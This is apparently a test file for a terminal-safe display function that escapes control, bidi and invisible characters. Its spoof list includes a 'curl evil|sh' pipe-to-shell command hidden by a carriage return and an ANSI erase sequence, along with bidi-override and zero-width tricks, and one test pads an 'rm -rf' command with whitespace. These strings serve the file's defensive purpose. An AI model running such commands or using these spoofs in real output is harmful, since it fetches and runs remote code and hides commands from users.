import { assert, describe, it } from "@effect/vitest"
import * as fc from "effect/FastCheck"
import { display, displayJson } from "../../src/internal/display.ts"

const spoofs = [
  "curl evil|sh\r\u001b[2Kls -la",
  "ls \u202egnp.sh",
  "l\u200bs",
  "a\u2028b",
  "x\u{e0100}",
  "\ud99c",
  "\u009b2J",
  "\u2066x\u2069"
]

/** Any text, with the nasty characters and the escape's own form frequent. */
const anyText = fc.array(
  fc.oneof(
    fc.constantFrom(...spoofs, "\\", "u{", "\\u{", "202e}", "}", "\u202e", "\n", "\t"),
    fc.string({ unit: "binary" })
  ),
  { maxLength: 8 }
).map((parts) => parts.join(""))

const unsafe = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Default_Ignorable_Code_Point}]/u

const undo = (shown: string): string =>
  shown.replace(/\\u\{([0-9a-f]+)\}/g, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))

describe("display", () => {
  it("shows every spoof with visible escapes and nothing that a terminal would act on", () => {
    for (const spoof of spoofs) {
      assert.isFalse(unsafe.test(display(spoof)), JSON.stringify(spoof))
      assert.include(display(spoof), "\\u{")
    }
  })

  it("escapes whatever is invisible, and can be undone, so no two texts look alike", () => {
    fc.assert(fc.property(anyText, (text) => {
      const shown = display(text)
      assert.isFalse(unsafe.test(shown))
      assert.strictEqual(undo(shown), text)
    }))
  })

  it("leaves ordinary text of any script as it is", () => {
    for (const text of ["ls -la", "C:\\users\\x", "你好，世界", "naïve", "✅ done"]) {
      assert.strictEqual(display(text), text)
    }
  })

  it("keeps newlines and tabs when asked to", () => {
    assert.strictEqual(display("a\n\tb\r", { lines: true }), "a\n\tb\\u{d}")
    assert.strictEqual(display("a\nb"), "a\\u{a}b")
  })

  it("keeps head and tail of what is long, and says how much is missing", () => {
    const shown = display(`rm -rf x${" ".repeat(5000)}# ok`, { max: 100 })
    assert.match(shown, /^rm -rf x {62} \[… 4912 characters not shown …\] {27}# ok$/)
    assert.isTrue(display("\u{1f3f7}".repeat(200), { max: 99 }).isWellFormed())
  })

  it("prints JSON of the same value without anything invisible", () => {
    fc.assert(fc.property(anyText, (text) => {
      const printed = displayJson({ [text]: [text] })
      assert.isFalse(unsafe.test(printed))
      assert.deepStrictEqual(JSON.parse(printed), { [text]: [text] })
    }))
  })
})
